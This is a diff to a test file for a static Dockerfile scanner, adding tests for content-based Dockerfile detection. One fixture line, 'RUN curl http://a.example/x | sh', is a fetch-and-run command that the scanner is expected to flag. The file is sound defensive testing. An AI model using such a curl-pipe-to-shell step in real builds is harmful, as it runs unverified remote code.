@@ -2,6 +2,7 @@ import { describe, expect, test } from '@jest/globals';
 import { Budget } from '../../../../src/scan/static/infrastructure/budget.js';
 import { read } from '../../../../src/scan/static/infrastructure/dockerfile/read.js';
 import { memberOf, textOf } from '../../../../src/scan/static/infrastructure/value.js';
+import { places, scanned } from './scanned.js';
 
 function stages(text: string): (string | null)[][] {
   const { resources } = read([{ path: 'Dockerfile', text }], new Budget());
@@ -46,4 +47,19 @@ test('odd files are read without harm', () => {
   ]) {
     expect(() => stages(text)).not.toThrow();
   }
+});
+
+test('a Dockerfile is known by what begins it, whatever it is called', async () => {
+  const text =
+    '# syntax=docker/dockerfile:1\nARG BASE=alpine\nFROM ${BASE}:3.20 AS build\nRUN curl http://a.example/x | sh\n';
+  const outcome = await scanned({ 'build/image': text, 'Dockerfile.txt': text });
+  expect(places(outcome.head).filter((place) => place.startsWith('docker-curl-pipe'))).toEqual([
+    'docker-curl-pipe Dockerfile.txt:4',
+    'docker-curl-pipe build/image:4',
+  ]);
+});
+
+test('a letter that begins with the word is no Dockerfile', async () => {
+  const outcome = await scanned({ letter: 'From me to you,\n\nRun fast.\n', notes: 'a\nFROM alpine\nRUN x\n' });
+  expect(outcome).toMatchObject({ status: 'not-applicable', coverage: [] });
 });
